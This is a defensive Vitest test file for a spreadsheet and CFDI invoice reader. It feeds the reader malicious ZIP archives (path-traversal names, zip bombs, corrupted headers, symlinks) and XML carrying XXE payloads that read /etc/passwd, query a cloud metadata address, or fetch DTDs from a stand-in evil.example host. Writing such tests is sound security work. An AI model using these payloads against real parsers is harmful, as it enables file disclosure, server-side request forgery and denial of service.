import { existsSync } from 'node:fs'
import { strToU8, zipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { readCfdi } from '#files/cfdi.ts'
import { readTable } from '#files/table.ts'
import { sheet, workbook } from '../files/workbooks.ts'
import { cfdiFixture } from '../support/cfdi.ts'

// Files come by mail. Whatever one is, it is read or refused with a sentence; nothing outside of it is looked at or written.

const ROW = '<row r="1"><c r="A1"><v>1</v></c></row>'
const SHEET = 'xl/worksheets/sheet1.xml'
const whole = Buffer.from(workbook(sheet(ROW)))
const END = whole.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]))
const CENTRAL = whole.lastIndexOf(SHEET) - 46
const LOCAL = whole.indexOf(SHEET) - 30

function changed(write: (bytes: Buffer) => void): Buffer {
  const bytes = Buffer.from(whole)
  write(bytes)
  return bytes
}

/** Fields of a header, by their place and size, each with the least and the most that it can say. */
function fields(of: string, start: number, places: readonly (readonly [at: number, bytes: 2 | 4])[]) {
  return places.flatMap(([at, bytes]) =>
    [0, 1, bytes === 2 ? 0xffff : 0xffffffff].map((value): [string, Buffer] => [
      `${of} ${at} says ${value}`,
      changed((archive) =>
        bytes === 2 ? archive.writeUInt16LE(value, start + at) : archive.writeUInt32LE(value, start + at),
      ),
    ]),
  )
}

const NAMES = [
  ...[
    '../../fuera.xml',
    '/etc/passwd',
    '..\\..\\fuera.xml',
    'C:\\Windows\\win.ini',
    '\\\\evil.example\\x',
    'xl/../../x',
  ],
  ...[
    `./${SHEET}`,
    SHEET.toUpperCase(),
    `${SHEET}/`,
    'CON',
    'xl/NUL.xml',
    'a:b',
    'a\0b',
    'x'.repeat(60_000),
    '',
    '.',
    '..',
  ],
  ...[
    'xl/\u202Elmx.x',
    '__proto__',
    'constructor',
    '~$libro.xlsx',
    'xl/vbaProject.bin',
    'xl/externalLinks/externalLink1.xml',
  ],
]

const ARCHIVES: readonly (readonly [what: string, bytes: Uint8Array])[] = [
  ...NAMES.map(
    (name) => [`an entry called ${name.slice(0, 30)}`, workbook(sheet(ROW), { [name]: 'fuera' })] as const,
  ),
  ...fields('the end', END, [[4, 2], [6, 2], [8, 2], [10, 2], [12, 4], [16, 4], [20, 2]]), // prettier-ignore
  ...fields('the directory', CENTRAL, [[6, 2], [8, 2], [10, 2], [16, 4], [20, 4], [24, 4], [28, 2], [30, 2], [32, 2], [38, 4], [42, 4]]), // prettier-ignore
  ...fields('the entry', LOCAL, [[4, 2], [6, 2], [8, 2], [14, 4], [18, 4], [22, 4], [26, 2], [28, 2]]), // prettier-ignore
  ['a bomb of a thousand to one', workbook(sheet(ROW + ' '.repeat(60_000_000)))],
  ['a bomb in the texts', workbook(sheet(ROW), { 'xl/sharedStrings.xml': ' '.repeat(60_000_000) })],
  ['an archive in an archive', workbook(sheet(ROW), { [SHEET]: zipSync({ [SHEET]: strToU8(sheet(ROW)) }) })],
  [
    'ten thousand entries and more',
    zipSync(Object.fromEntries(Array.from({ length: 10_050 }, (_, n) => [`e${n}`, strToU8('x')]))),
  ],
  ['something before it', Buffer.concat([Buffer.from('MZ'.repeat(500)), whole])],
  ['something behind it', Buffer.concat([whole, Buffer.alloc(70_000, 'x')])],
  ['a second end in the comment', Buffer.concat([whole, whole.subarray(END)])],
  ['two archives', Buffer.concat([whole, whole])],
  ['an end alone', whole.subarray(END)],
  ['a head alone', Buffer.from('PK\x03\x04')],
  ['every entry at one place', changed((bytes) => bytes.writeUInt32LE(0, CENTRAL + 42))],
  [
    'a link to a file of the system',
    changed((bytes) => bytes.writeUInt32LE((0o120777 << 16) >>> 0, CENTRAL + 38)),
  ],
]

test(
  'of a hundred hostile archives each is read as the sheet that it holds, or refused',
  { timeout: 240_000 },
  async () => {
    const came = { read: 0, refused: 0 }
    for (const [what, bytes] of ARCHIVES) {
      const read = await readTable(bytes, { name: 'cartera.xlsx' })
      if (read.ok) expect([what, read.value.rows.map(({ cells }) => cells)]).toEqual([what, [['1']]])
      else expect([what, read.refusal.code]).toEqual([what, expect.stringMatching(/^file\./)])
      came[read.ok ? 'read' : 'refused'] += 1
    }
    expect(ARCHIVES.length).toBeGreaterThanOrEqual(100)
    expect(came.refused).toBeGreaterThan(40)
    expect(['fuera.xml', '../fuera.xml', '../../fuera.xml'].filter((path) => existsSync(path))).toEqual([])
  },
)

describe('an XML that means to do something', () => {
  const invoice = cfdiFixture('factura.xml')
    .toString('utf8')
    .replace(/^\ufeff?<\?xml[^>]*\?>\s*/, '')
  const head = '<?xml version="1.0" encoding="UTF-8"?>'
  const TYPES = [
    '<!DOCTYPE x>', '<!DOCTYPE x SYSTEM "file:///etc/passwd">', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    '<!DOCTYPE x PUBLIC "-//x" "http://evil.example/x.dtd">', '<!DOCTYPE x [<!ENTITY a "b">]>',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE x [<!ENTITY a SYSTEM "http://169.254.169.254/">]>',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "\\\\evil.example\\x">]>', '<!DOCTYPE x [<!ENTITY a SYSTEM "php://filter/x">]>',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "jar:http://evil.example/x!/y">]>', '<!DOCTYPE x [<!ENTITY a SYSTEM "expect://id">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>', '<!DOCTYPE x [<!ENTITY % p "x"><!ENTITY a "%p;">]>',
    '<!DOCTYPE x [<!ENTITY a "&b;&b;"><!ENTITY b "&a;&a;">]>', '<!DOCTYPE x [<!ENTITY a "&a;">]>',
    `<!DOCTYPE x [${Array.from({ length: 12 }, (_, n) => `<!ENTITY e${n + 1} "&e${n};&e${n};&e${n};&e${n};">`).join('')}]>`,
    `<!DOCTYPE x [<!ENTITY a "${'x'.repeat(50_000)}">]>`, '<!DOCTYPE x [<!ATTLIST x y CDATA "z">]>',
    '<!DOCTYPE x [<!ELEMENT x ANY>]>', '<!DOCTYPE x [<!NOTATION n SYSTEM "calc.exe">]>', '<!doctype x>', '<!DOCTYPE\nx>',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///dev/random">]>', '<!DOCTYPE x [<!ENTITY a SYSTEM "data:,x">]>',
    '<!-- --><!DOCTYPE x>', '<?x y?><!DOCTYPE x [<!ENTITY a "b">]>', '\n\n<!DOCTYPE x>',
  ] // prettier-ignore
  const WITHIN = [
    ['&a;', '&a;'], ['an entity of HTML', '&nbsp;'], ['a NUL', '\u0000'], ['NUL as a number', '&#0;'],
    ['a letter that XML has not', '&#x1F;'], ['half a pair', '&#xD800;'], ['beyond the last letter', '&#x110000;'],
    ['an open reference', '&amp'], ['a reference without end', `&${'a'.repeat(10_000)};`],
  ] as const // prettier-ignore

  test.each(TYPES.map((type) => [type.slice(0, 70), type]))('is refused for it: %s', (_, type) => {
    const read = readCfdi('factura.xml', Buffer.from(`${head}${type}${invoice}`))
    expect(read).toMatchObject({
      ok: false,
      refusal: { code: expect.stringMatching(/^(invoice|file|cfdi)\./) },
    })
  })

  test.each(WITHIN)('%s among its values is refused', (_, within) => {
    const read = readCfdi('factura.xml', Buffer.from(head + invoice.replace(/Nombre="/, `Nombre="${within}`)))
    expect(read).toMatchObject({ ok: false })
  })

  test('a document to be included, or to be styled by another, stays unread', () => {
    for (const more of [
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
      '<?xml-stylesheet href="http://evil.example/x.xsl"?>',
      '<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x http://evil.example/x.xsd"/>',
      '<![CDATA[<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>]]>',
    ]) {
      const read = readCfdi(
        'factura.xml',
        Buffer.from(head + invoice.replace(/<\/cfdi:Comprobante>/, `${more}</cfdi:Comprobante>`)),
      )
      expect(JSON.stringify(read)).not.toContain('root:')
    }
  })
})
